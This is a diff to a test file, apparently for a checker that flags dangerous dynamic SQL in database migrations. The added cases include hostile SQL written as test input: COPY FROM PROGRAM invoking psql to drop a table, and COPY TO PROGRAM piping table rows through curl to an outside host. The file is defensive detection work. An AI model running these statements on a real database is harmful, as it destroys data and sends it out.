@@ -53,6 +53,9 @@ describe('dynamic-sql: flagged', () => {
       'CREATE EVENT TRIGGER',
       `CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION pg_ops_existing();`
     ],
+    ['COPY FROM PROGRAM', `COPY "Post" FROM PROGRAM 'psql -c "DROP TABLE x"';`],
+    ['COPY TO PROGRAM', `COPY "Post" TO PROGRAM 'curl -d @- https://example.com';`],
+    ['LOAD', `LOAD 'plugin';`],
     ['a function that builds SQL', FN_EXECUTE],
     [
       'a function with RETURN QUERY EXECUTE',
@@ -178,6 +181,7 @@ describe('dynamic-sql: quiet', () => {
       `${FN_STATIC}\nCOMMENT ON FUNCTION wipe() IS 'x';\nGRANT EXECUTE ON FUNCTION wipe() TO app;\nDROP FUNCTION wipe();`
     ],
     ['a prepared statement never executed', `PREPARE s AS SELECT 1;`],
+    ['COPY from a file', `COPY "Post" FROM '/tmp/post.csv';`],
     [
       'a Prisma migration',
       `CREATE TABLE "User" ("id" SERIAL NOT NULL, CONSTRAINT "User_pkey" PRIMARY KEY ("id"));\nCREATE UNIQUE INDEX "User_email_key" ON "User"("id");`
